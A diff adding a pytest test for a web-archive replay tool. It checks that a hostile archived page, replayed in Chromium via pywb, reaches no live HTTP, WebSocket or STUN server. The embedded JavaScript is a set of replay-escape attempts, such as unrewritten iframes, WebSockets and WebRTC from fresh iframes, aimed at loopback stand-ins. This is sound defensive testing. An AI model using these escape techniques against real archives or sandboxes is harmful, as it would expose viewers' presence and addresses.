@@ -1,0 +1,165 @@
+"""A replayed page stays inside the archived copy, whatever its scripts try.
+
+A hostile page, captured, is replayed in a real browser (`custody replay`, pywb behind
+custody's guard). Its scripts open an unrewritten copy of another archived page (pywb's
+``id_``), which loads an image, fetches and opens a WebSocket to a live server; they
+open a WebSocket themselves and start WebRTC towards a STUN server on UDP. Nothing may
+reach either server: a live request tells the page's author that the page is being
+looked at, from where, and the replay's address."""
+
+from __future__ import annotations
+
+import os
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import ClassVar
+
+import pytest
+
+from conftest import PYWB, Custody
+from custody.testing.site import Page, SiteServer
+from test_replay import CHROMIUM, own_temporary_folder, replaying  # noqa: F401
+
+pytestmark = pytest.mark.skipif(
+    not (PYWB / "wayback").exists() or not os.path.exists(CHROMIUM),
+    reason="replay needs pywb and Chromium: ./scripts/setup --test installs them")
+
+
+class _Live(BaseHTTPRequestHandler):
+    """The page author's server: every request it gets is a leak."""
+
+    seen: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.seen.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def live() -> Iterator[tuple[int, int, list[str], list[bytes]]]:
+    """An HTTP server and a UDP socket (STUN) on loopback, and what each received."""
+    _Live.seen = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Live)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.settimeout(0.2)
+    packets: list[bytes] = []
+    done = threading.Event()
+
+    def listen() -> None:
+        while not done.is_set():
+            try:
+                packets.append(udp.recv(2048))
+            except (TimeoutError, OSError):
+                continue
+
+    threading.Thread(target=listen, daemon=True).start()
+    try:
+        yield server.server_address[1], udp.getsockname()[1], _Live.seen, packets
+    finally:
+        done.set()
+        server.shutdown()
+        server.server_close()
+        udp.close()
+
+
+def _pages(site: str, http_port: int, udp_port: int) -> dict[str, Page]:
+    leak = f"http://127.0.0.1:{http_port}"
+    escape = f"""
+      function attempt(f) {{ try {{ f(); }} catch (e) {{}} }}
+      attempt(function () {{
+        var frame = document.createElement('iframe');
+        frame.src = window.wbinfo.prefix + 'id_/{site}/raw.html';
+        document.body.appendChild(frame);
+      }});
+      attempt(function () {{ new WebSocket('ws://127.0.0.1:{http_port}/ws-page'); }});
+      attempt(function () {{
+        var rtc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});
+        rtc.createDataChannel('x');
+        rtc.createOffer().then(function (o) {{ return rtc.setLocalDescription(o); }});
+      }});
+      attempt(function () {{
+        var frame = document.createElement('iframe');
+        document.body.appendChild(frame);
+        var Peer = frame.contentWindow.RTCPeerConnection;
+        var rtc = new Peer({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});
+        rtc.createDataChannel('y');
+        rtc.createOffer().then(function (o) {{ return rtc.setLocalDescription(o); }});
+      }});
+      attempt(function () {{
+        var frame = document.createElement('iframe');
+        document.body.appendChild(frame);
+        var Peer = window.frames[window.frames.length - 1].RTCPeerConnection;
+        var rtc = new Peer({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});
+        rtc.createDataChannel('z');
+        rtc.createOffer().then(function (o) {{ return rtc.setLocalDescription(o); }});
+      }});
+      attempt(function () {{
+        var holder = document.createElement('div');
+        holder.innerHTML = '<iframe></iframe>';
+        document.body.appendChild(holder);
+        var Peer = window.frames[window.frames.length - 1].RTCPeerConnection;
+        var rtc = new Peer({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});
+        rtc.createDataChannel('w');
+        rtc.createOffer().then(function (o) {{ return rtc.setLocalDescription(o); }});
+      }});
+      attempt(function () {{
+        var holder = document.createElement('div');
+        document.body.appendChild(holder);
+        holder.innerHTML = '<iframe></iframe>';
+        var Peer = window.frames[window.frames.length - 1].RTCPeerConnection;
+        var rtc = new Peer({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});
+        rtc.createDataChannel('v');
+        rtc.createOffer().then(function (o) {{ return rtc.setLocalDescription(o); }});
+      }});
+      document.title = 'ran';
+    """
+    raw = f"""<!doctype html><title>raw</title>
+      <img src="{leak}/img-raw">
+      <script>fetch('{leak}/fetch-raw', {{mode: 'no-cors'}});
+      try {{ new WebSocket('ws://127.0.0.1:{http_port}/ws-raw'); }} catch (e) {{}}</script>"""
+    return {
+        "/hostile.html": Page(b"""<!doctype html><html><head><title>hostile</title></head>
+            <body><p id="t">An ordinary statement.</p>
+            <iframe src="/raw.html" width="10" height="10"></iframe>
+            <script src="/escape.js"></script></body></html>""", "text/html"),
+        "/escape.js": Page(escape.encode(), "text/javascript"),
+        "/raw.html": Page(raw.encode(), "text/html"),
+    }
+
+
+def test_a_hostile_page_replayed_reaches_no_live_server(
+        custody: Custody, live: tuple[int, int, list[str], list[bytes]]) -> None:
+    http_port, udp_port, seen, packets = live
+    pages: dict[str, Page] = {}
+    with SiteServer(pages) as site:
+        pages.update(_pages(site.url, http_port, udp_port))
+        url = site.url + "/hostile.html"
+        custody.archive(url)
+    seen.clear()  # (the capture itself fetched nothing from it: the page's scripts do)
+    with replaying(custody, url) as (_proc, lines):
+        address = lines[1].split()[1]
+        from playwright.sync_api import sync_playwright
+
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(
+                executable_path=CHROMIUM, args=["--no-sandbox"] if os.geteuid() == 0 else [])
+            try:
+                page = browser.new_page()
+                page.goto(address, wait_until="load", timeout=30_000)
+                frame = next(f for f in page.frames if "/mp_/" in f.url)
+                frame.wait_for_function("document.title === 'ran'", timeout=15_000)
+                assert frame.inner_text("#t") == "An ordinary statement."
+                time.sleep(3)  # what the scripts started has had time to arrive
+            finally:
+                browser.close()
+    assert seen == [], seen
+    assert packets == [], f"{len(packets)} UDP packets reached the STUN server"
